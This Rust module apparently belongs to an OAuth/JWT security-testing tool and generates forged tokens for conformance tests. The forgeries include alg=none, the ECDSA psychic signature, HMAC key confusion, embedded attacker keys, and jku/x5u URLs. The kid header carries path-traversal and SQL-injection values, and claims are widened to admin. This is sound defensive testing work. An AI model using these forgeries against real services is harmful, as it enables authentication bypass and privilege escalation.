//! Forgeries of a genuine JWS, each a named function that does exactly what
//! its name says (RFC 8725 §2 lists the attacks; the unit tests below and in
//! `tests.rs` check each one). A forgery is a compact token string; none of
//! them is signed with the target's key.

use serde_json::{Map, Value, json};

use super::jws::{Alg, Jws, Signer, encode_json};
use super::{JoseError, b64e};

/// One forged token, and what was done to make it.
#[derive(Clone, Debug, PartialEq)]
pub struct Forgery {
    /// Short name, e.g. `alg=nOnE, signature kept`.
    pub name: String,
    pub token: String,
}

impl Forgery {
    fn new(name: impl Into<String>, token: String) -> Self {
        Forgery {
            name: name.into(),
            token,
        }
    }

    /// The forged header and claims as JSON text, for reports (the token
    /// itself may be too long or not decodable).
    pub fn describe(&self) -> String {
        let mut parts = self.token.splitn(3, '.');
        let decode = |s: Option<&str>| {
            s.and_then(|s| super::b64d(s).ok())
                .map(|b| String::from_utf8_lossy(&b).into_owned())
                .unwrap_or_else(|| "«not base64url»".to_owned())
        };
        let header = decode(parts.next());
        let mut claims = decode(parts.next());
        if claims.len() > 600 {
            claims = format!(
                "{}… ({} bytes)",
                &claims[..floor_boundary(&claims, 600)],
                claims.len()
            );
        }
        format!("{} — header {header}, claims {claims}", self.name)
    }
}

/// The largest char boundary of `s` at or below `i`.
pub(crate) fn floor_boundary(s: &str, i: usize) -> usize {
    let mut i = i.min(s.len());
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn with_header(jws: &Jws, edit: impl FnOnce(&mut Map<String, Value>)) -> String {
    let mut h = jws.header.clone();
    edit(&mut h);
    encode_json(&Value::Object(h))
}

/// `alg: none` in each case variant (RFC 8725 §2.1, §3.1), once with an empty
/// signature (the RFC 7515 §A.5 shape) and once keeping the original.
pub fn alg_none(jws: &Jws) -> Vec<Forgery> {
    let mut out = Vec::new();
    for variant in ["none", "None", "NONE", "nOnE"] {
        let h = with_header(jws, |h| {
            h.insert("alg".into(), json!(variant));
        });
        out.push(Forgery::new(
            format!("alg={variant}, no signature"),
            format!("{h}.{}.", jws.payload_b64),
        ));
        out.push(Forgery::new(
            format!("alg={variant}, original signature kept"),
            format!("{h}.{}.{}", jws.payload_b64, jws.signature_b64),
        ));
    }
    out
}

/// The signature segment emptied: `header.payload.`.
pub fn stripped_signature(jws: &Jws) -> Forgery {
    Forgery::new(
        "signature stripped",
        format!("{}.{}.", jws.header_b64, jws.payload_b64),
    )
}

/// The signature cut to its first half.
pub fn truncated_signature(jws: &Jws) -> Forgery {
    let half = &jws.signature[..jws.signature.len() / 2];
    Forgery::new(
        "signature truncated to half its length",
        format!("{}.{}.{}", jws.header_b64, jws.payload_b64, b64e(half)),
    )
}

/// The signature replaced by zero bytes of the same length.
pub fn zeroed_signature(jws: &Jws) -> Forgery {
    let zeros = vec![0u8; jws.signature.len().max(1)];
    Forgery::new(
        "signature replaced by zero bytes",
        format!("{}.{}.{}", jws.header_b64, jws.payload_b64, b64e(&zeros)),
    )
}

/// The payload re-encoded after `edit`, with the original header and
/// signature kept (RFC 7515 §5.2: the signature covers the payload).
pub fn tampered_payload(
    jws: &Jws,
    what: &str,
    edit: impl FnOnce(&mut Map<String, Value>),
) -> Result<Forgery, JoseError> {
    let mut claims = jws.claims().ok_or(JoseError::Claims)?;
    edit(&mut claims);
    Ok(Forgery::new(
        format!("payload tampered ({what}), original signature kept"),
        format!(
            "{}.{}.{}",
            jws.header_b64,
            encode_json(&Value::Object(claims)),
            jws.signature_b64
        ),
    ))
}

/// Claims widened the way an attacker wants: `scope` extended, `sub`
/// changed, `admin` added to `roles`.
pub fn widen(claims: &mut Map<String, Value>) {
    if let Some(Value::String(s)) = claims.get_mut("scope") {
        s.push_str(" admin notes:write profile");
    }
    claims.insert("sub".into(), json!("oauthspec-attacker"));
    match claims.get_mut("roles") {
        Some(Value::Array(r)) => r.push(json!("admin")),
        _ => {
            claims.insert("roles".into(), json!(["user", "admin"]));
        }
    }
}

/// The ECDSA "psychic signature" (CVE-2022-21449): `alg: ES256`, any claims,
/// and r = s = 0 as the 64-byte signature. Verifiers that skip the
/// `0 < r, s < n` check of SEC 1 §4.1.4 accept it for every message and key.
pub fn psychic_signature(jws: &Jws) -> Result<Forgery, JoseError> {
    let mut claims = jws.claims().ok_or(JoseError::Claims)?;
    widen(&mut claims);
    let h = with_header(jws, |h| {
        h.insert("alg".into(), json!("ES256"));
    });
    Ok(Forgery::new(
        "ES256 signature with r = s = 0 (psychic signature), claims widened",
        format!(
            "{h}.{}.{}",
            encode_json(&Value::Object(claims)),
            b64e(&[0u8; 64])
        ),
    ))
}

/// Re-signs the genuine header and payload with `alg` (HMAC) and `secret`:
/// the algorithm-confusion attack (RFC 8725 §2.1) when `secret` is the
/// server's public key.
pub fn hmac_signed(jws: &Jws, alg: Alg, secret: &[u8], name: &str) -> Result<Forgery, JoseError> {
    let h = with_header(jws, |h| {
        h.insert("alg".into(), json!(alg.as_str()));
    });
    let input = format!("{h}.{}", jws.payload_b64);
    let sig = Signer::Hmac(secret.to_vec()).sign(alg, input.as_bytes())?;
    Ok(Forgery::new(
        name.to_owned(),
        format!("{input}.{}", b64e(&sig)),
    ))
}

/// A `kid` that a careless server resolves to a key the attacker knows:
/// a path to an empty file, or SQL that selects a chosen string; the token
/// is HS256-signed with that key.
pub fn kid_injections(jws: &Jws) -> Result<Vec<Forgery>, JoseError> {
    let cases: [(&str, Option<&[u8]>, &str); 4] = [
        (
            "../../../../../../../../dev/null",
            Some(b""),
            "kid path traversal to /dev/null, HS256 with an empty key",
        ),
        (
            "/proc/sys/kernel/randomize_va_space",
            Some(b"2\n"),
            "kid pointing at a file with known content, HS256 with that content",
        ),
        (
            "x' UNION SELECT 'oauthspec-key' -- ",
            Some(b"oauthspec-key"),
            "kid SQL injection selecting a chosen key, HS256 with that key",
        ),
        (
            "oauthspec-no-such-kid",
            None,
            "unknown kid, original signature kept",
        ),
    ];
    let mut out = Vec::new();
    for (kid, key, name) in cases {
        let h = with_header(jws, |h| {
            h.insert("kid".into(), json!(kid));
            if key.is_some() {
                h.insert("alg".into(), json!("HS256"));
            }
        });
        let input = format!("{h}.{}", jws.payload_b64);
        let sig = match key {
            Some(key) => Signer::Hmac(key.to_vec()).sign(Alg::HS256, input.as_bytes())?,
            None => jws.signature.clone(),
        };
        out.push(Forgery::new(name, format!("{input}.{}", b64e(&sig))));
    }
    Ok(out)
}

/// The attacker's public key in the `jwk` header, the token signed with the
/// attacker's private key (CVE-2018-0114).
pub fn embedded_jwk(jws: &Jws, attacker: &Signer, alg: Alg) -> Result<Forgery, JoseError> {
    let jwk = attacker.public_jwk().ok_or(JoseError::WrongKeyType)?;
    let mut h = jws.header.clone();
    h.insert("alg".into(), json!(alg.as_str()));
    h.insert("jwk".into(), jwk);
    let token = super::jws::sign(&Value::Object(h), &jws.payload, attacker)?;
    Ok(Forgery::new(
        format!("attacker's {alg} key embedded as jwk, signed with it"),
        token,
    ))
}

/// A key-set URL in the header (`jku` or `x5u`, RFC 7515 §4.1.2, §4.1.5)
/// pointing at `url`, the token signed with the attacker's key whose `kid`
/// is `kid`.
pub fn key_url(
    jws: &Jws,
    member: &str,
    url: &str,
    attacker: &Signer,
    alg: Alg,
    kid: &str,
) -> Result<Forgery, JoseError> {
    let mut h = jws.header.clone();
    h.insert("alg".into(), json!(alg.as_str()));
    h.insert("kid".into(), json!(kid));
    h.insert(member.into(), json!(url));
    let token = super::jws::sign(&Value::Object(h), &jws.payload, attacker)?;
    Ok(Forgery::new(
        format!("{member} pointing at {url}, signed with the attacker's {alg} key"),
        token,
    ))
}

/// An unknown critical extension (RFC 7515 §4.1.11): `crit` names a header
/// parameter no server understands. The header is re-encoded; the caller
/// signs it (see [`Forgery`] of a signing oracle) or keeps the signature.
pub fn with_unknown_crit(header: &mut Map<String, Value>) {
    header.insert("crit".into(), json!(["oauthspec-unknown-extension"]));
    header.insert("oauthspec-unknown-extension".into(), json!(true));
}

/// Tokens that are not well-formed compact JWSs (RFC 7515 §7.1): characters
/// outside base64url, padding, JSON that is not an object, too many or too
/// few segments, and a 1 MB token. A server must refuse each without a 5xx.
pub fn malformed(jws: &Jws) -> Vec<Forgery> {
    let (h, p, s) = (&jws.header_b64, &jws.payload_b64, &jws.signature_b64);
    let mut huge = jws.claims().unwrap_or_default();
    huge.insert("oauthspec_padding".into(), json!("A".repeat(1024 * 1024)));
    let huge_payload = encode_json(&Value::Object(huge));
    vec![
        Forgery::new(
            "'!' inside the header segment",
            format!("{}!{}.{p}.{s}", &h[..h.len() / 2], &h[h.len() / 2..]),
        ),
        Forgery::new(
            "'=' padding on the payload segment",
            format!("{h}.{p}==.{s}"),
        ),
        Forgery::new(
            "payload segment not base64url (contains '*')",
            format!("{h}.*{p}.{s}"),
        ),
        Forgery::new(
            "header that is a JSON array",
            format!("{}.{p}.{s}", b64e(b"[\"alg\",\"none\"]")),
        ),
        Forgery::new(
            "header that is not JSON",
            format!("{}.{p}.{s}", b64e(b"{alg: none")),
        ),
        Forgery::new(
            "payload that is not JSON",
            format!("{h}.{}.{s}", b64e(b"\xff\xfe not json")),
        ),
        Forgery::new("an extra fourth segment", format!("{h}.{p}.{s}.{s}")),
        Forgery::new("five segments, like a JWE", format!("{h}.{p}.{s}.{p}.{s}")),
        Forgery::new("only two segments", format!("{h}.{p}")),
        Forgery::new("a single segment", h.to_string()),
        Forgery::new("three empty segments", "..".to_owned()),
        Forgery::new(
            "a 1 MB token (a 1 MB claim added, signature kept)",
            format!("{h}.{huge_payload}.{s}"),
        ),
    ]
}

/// Variants of an opaque (non-JWT) token that no API may accept: the same
/// token altered, cut, extended, or replaced by junk. They exercise what
/// every API must do with an invalid token, whatever its token format.
pub fn opaque_variants(token: &str) -> Vec<Forgery> {
    let flipped: String = {
        let mut chars: Vec<char> = token.chars().collect();
        if let Some(last) = chars.last_mut() {
            *last = if *last == 'A' { 'B' } else { 'A' };
        }
        chars.into_iter().collect()
    };
    let half = &token[..floor_boundary(token, token.len() / 2)];
    vec![
        Forgery::new("the genuine token with its last character changed", flipped),
        Forgery::new("the first half of the genuine token", half.to_owned()),
        Forgery::new(
            "the genuine token with a character appended",
            format!("{token}x"),
        ),
        Forgery::new(
            "a token the server never issued",
            format!("oauthspec-made-up-{}", "A".repeat(32)),
        ),
    ]
}

/// Malformed variants of an opaque token: characters the b64token syntax of
/// RFC 6750 §2.1 does not allow, and a 1 MB token.
pub fn opaque_malformed(token: &str) -> Vec<Forgery> {
    vec![
        Forgery::new(
            "'!' inside the token",
            format!(
                "{}!{}",
                &token[..floor_boundary(token, token.len() / 2)],
                &token[floor_boundary(token, token.len() / 2)..]
            ),
        ),
        Forgery::new("a token of three dots", "...".to_owned()),
        Forgery::new(
            "a 1 MB token (the genuine one, padded)",
            format!("{token}{}", "A".repeat(1024 * 1024)),
        ),
    ]
}

#[cfg(test)]
mod opaque_tests {
    use super::*;

    #[test]
    fn opaque_variants_differ_from_the_genuine_token() {
        let t = "opaque-token-0123456789";
        for f in opaque_variants(t).into_iter().chain(opaque_malformed(t)) {
            assert_ne!(f.token, t, "{}", f.name);
            assert!(!f.name.is_empty());
        }
        assert_eq!(opaque_variants("é")[0].token, "A");
    }
}
